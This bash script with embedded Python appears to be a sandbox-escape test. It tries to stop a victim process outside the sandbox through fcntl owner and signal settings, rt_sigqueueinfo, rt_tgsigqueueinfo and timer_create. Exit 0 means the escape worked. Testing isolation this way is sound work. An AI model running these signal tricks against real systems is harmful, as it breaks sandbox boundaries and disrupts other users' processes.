#!/bin/bash
# must NOT stop a process outside through the kernel: the owner of a descriptor, a timer, a queue or a lease names who gets the signal. Success (exit 0) = the escape WORKED; any other exit = held; 77 = prerequisite missing.
# VERIFY: p=$ATK_VICTIM; s=$(sed -n "s/^State:[[:space:]]*\(.\).*/\1/p" /proc/$p/status); kill -CONT $p; [ "$s" = T ]
. "${SBX_ENV:-./attack.env}" || exit 77
needpy
$PY - <<'P'
import os,fcntl,ctypes,struct,sys
c=ctypes.CDLL(None,use_errno=True)
v=int(os.environ["ATK_VICTIM"]); won=0
for kind in (0,1,2):
    r,w=os.pipe()
    try:
        if kind==2: fcntl.fcntl(r,8,v)
        else: fcntl.fcntl(r,15,struct.pack("ii",kind,v))
        fcntl.fcntl(r,10,19); fcntl.fcntl(r,4,os.O_NONBLOCK|0o20000); os.write(w,b"x"); won=1
    except OSError as e: print(kind,e)
for nr in (129,):
    c.syscall(nr,v,19,ctypes.create_string_buffer(struct.pack("iii",19,0,-1)+b"\0"*200))
c.syscall(297,v,v,19,ctypes.create_string_buffer(struct.pack("iii",19,0,-1)+b"\0"*200))
ev=ctypes.create_string_buffer(struct.pack("qiii",0,19,4,v)+b"\0"*64); t=ctypes.c_int()
if c.syscall(222,0,ev,ctypes.byref(t))==0: won=1
sys.exit(0 if won else 1)
P
